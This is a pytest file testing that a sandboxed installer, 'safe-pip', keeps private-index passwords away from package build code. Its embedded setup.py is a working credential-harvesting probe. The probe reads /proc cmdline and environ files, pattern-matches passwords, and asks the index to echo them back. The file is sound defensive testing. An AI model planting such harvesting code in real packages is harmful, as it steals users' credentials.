"""Private-index passwords at install time: build code must never see them.

A real HTTPS index on 127.0.0.1 (:class:`tls_servers.BasicAuthIndex`, certificate from
a CA the test makes) wants ``alice:PASSWORD``.  Its only package is an sdist whose
``setup.py`` looks for index passwords in its environment and in every process's
command line and environment it can read (uv's argv holds the index URL), and
records what it found in the wheel it builds, so the evidence lands in the venv.
Plain uv: the password is found.  ``safe-pip install``: the install still works
(the index sees the real password on every request), and only the phantom is found.
"""

from __future__ import annotations

import os
import secrets
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from pkg_index import BENIGN_WHEEL, uv_binary, uv_env, write_sdist
from sandbox_harness import World, make_world
from test_install_cli import SAFE_PIP, outcome, safe_pip
from tls_servers import BasicAuthIndex, TestCA

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not SAFE_PIP.exists(), reason="safe-pip is not installed next to python"),
]

USER = "alice"
PROBE = "evidence-pkg"
# The probe knows what index passwords look like ("pw-" and 32 characters), not which
# one is in use; it reports every match.
SETUP_PY = r"""
import glob, os, re
from setuptools import setup

pattern = re.compile(rb"pw-[A-Za-z0-9]{32}")
found = set()
for value in os.environ.values():
    found.update(m.decode() for m in pattern.findall(value.encode()))
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as handle:
            found.update(m.decode() for m in pattern.findall(handle.read()))
    except OSError:
        pass
# Then ask the index to echo each one back (it must be on the index's own host, so
# through the proxy the phantom becomes the real password on the way there).
import base64, urllib.request
roots = set()
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as handle:
            text = handle.read()
        roots.update(m.decode() for m in re.findall(rb"https://[^\x00 ]*?/simple/", text))
    except OSError:
        pass
candidates = sorted(found)
for root in roots:
    host = re.sub(r"//[^@/]*@", "//", root).removesuffix("/simple/")
    for candidate in candidates:
        token = base64.b64encode(("alice:" + candidate).encode()).decode()
        for form in ("basic", "chunked"):
            auth = {"Authorization": "Basic " + token}
            request = urllib.request.Request(host + "/echo/" + form, headers=auth)
            try:
                body = urllib.request.urlopen(request, timeout=30).read()
            except OSError:
                continue
            text = body.removeprefix(b"you sent Basic ")
            try:
                text = base64.b64decode(text + b"=" * (-len(text) % 4))
            except ValueError:
                pass
            found.update(m.decode() for m in pattern.findall(text) + pattern.findall(body))
os.makedirs("evidence_pkg", exist_ok=True)
with open("evidence_pkg/__init__.py", "w") as handle:
    handle.write(f"FOUND = {sorted(found)!r}\n")
setup(name="evidence-pkg", version="1.0", packages=["evidence_pkg"])
"""


@pytest.fixture(scope="module")
def password() -> str:
    return "pw-" + secrets.token_hex(16)


@pytest.fixture(scope="module")
def ca(tmp_path_factory: pytest.TempPathFactory) -> tuple[TestCA, Path]:
    directory = tmp_path_factory.mktemp("ca")
    directory.chmod(0o755)
    authority = TestCA()
    bundle = authority.bundle_with_system(directory / "bundle.pem")
    bundle.chmod(0o644)
    return authority, bundle


@pytest.fixture(scope="module")
def private_index(
    index_dir: Path, ca: tuple[TestCA, Path], password: str
) -> Iterator[BasicAuthIndex]:
    write_sdist(index_dir, PROBE, "1.0", {"setup.py": SETUP_PY})
    with BasicAuthIndex(index_dir, ca[0], USER, password) as served:
        yield served


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def evidence(venv: Path) -> list[str]:
    found = list(venv.glob("lib/python*/site-packages/evidence_pkg/__init__.py"))
    assert found, f"the probe package is not installed in {venv}"
    namespace: dict[str, object] = {}
    exec(found[0].read_text(), namespace)
    result = namespace["FOUND"]
    assert isinstance(result, list)
    return result


def authorizations(index: BasicAuthIndex) -> set[str | None]:
    return {request.headers.get("authorization") for request in index.requests}


def test_plain_uv_hands_the_index_password_to_build_code(
    world: World, private_index: BasicAuthIndex, ca: tuple[TestCA, Path], password: str
) -> None:
    venv = world.root / "plain-venv"
    env = uv_env(world.home, world.root / "uv-cache", SSL_CERT_FILE=str(ca[1]))
    subprocess.run(
        [uv_binary(), "venv", "-q", "-p", sys.executable, str(venv)], env=env, check=True
    )
    url = private_index.url.replace("https://", f"https://{USER}:{password}@")
    subprocess.run(
        [
            uv_binary(),
            "pip",
            "install",
            "-q",
            "--python",
            str(venv / "bin" / "python"),
            "--index-url",
            url,
            PROBE,
        ],
        env=env,
        check=True,
        capture_output=True,
        timeout=180,
    )
    assert password in evidence(venv)


def test_safe_pip_keeps_the_index_password_from_build_code(
    world: World,
    mode: str,
    private_index: BasicAuthIndex,
    ca: tuple[TestCA, Path],
    password: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(ca[1]))  # the user's trust store knows the CA
    private_index.reset()
    venv = world.root / "venv"
    url = private_index.url.replace("https://", f"https://{USER}:{password}@")
    result = safe_pip(world, mode, "--venv", str(venv), "-i", url, PROBE)
    assert result.returncode == 0, result.stderr
    assert outcome(result)["route"] == "staged"  # resolved, built and installed sandboxed
    found = evidence(venv)
    assert password not in found
    # The probe saw the phantom, and the index's echoes of the password -- base64 in
    # the Basic header, split over chunks -- came back as the phantom (the echoed
    # base64 keeps at most a few bits of the value at each end: never its body).
    assert found and all(f.startswith("pw-") for f in found), found
    assert not any(password[4:-2] in f for f in found), found
    assert password not in result.stdout + result.stderr
    # The index got the real password, and never anything else that authenticated.
    real = "Basic " + __import__("base64").b64encode(f"{USER}:{password}".encode()).decode()
    assert real in authorizations(private_index)
    assert authorizations(private_index) <= {real, None}


def test_named_index_credentials_from_the_environment(
    world: World,
    private_index: BasicAuthIndex,
    ca: tuple[TestCA, Path],
    password: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(ca[1]))
    monkeypatch.setenv("UV_INDEX", f"private={private_index.url}")
    monkeypatch.setenv("UV_INDEX_PRIVATE_USERNAME", USER)
    monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", password)
    venv = world.root / "venv"
    env = world.env("namespace")
    for name in ("UV_INDEX", "UV_INDEX_PRIVATE_USERNAME", "UV_INDEX_PRIVATE_PASSWORD"):
        env[name] = os.environ[name]
    result = subprocess.run(
        [
            str(SAFE_PIP),
            "install",
            "--json",
            "--python",
            sys.executable,
            "--venv",
            str(venv),
            "--no-build",
            BENIGN_WHEEL,
        ],
        cwd=world.project,
        env={**env, "SSL_CERT_FILE": str(ca[1])},
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert password not in result.stdout + result.stderr


def test_a_password_over_plain_http_is_refused(world: World) -> None:
    result = safe_pip(world, "namespace", "-i", "http://user:pw-secret@127.0.0.1:9/simple", "x")
    assert result.returncode == 125
    assert "https" in result.stderr and "pw-secret" not in result.stderr
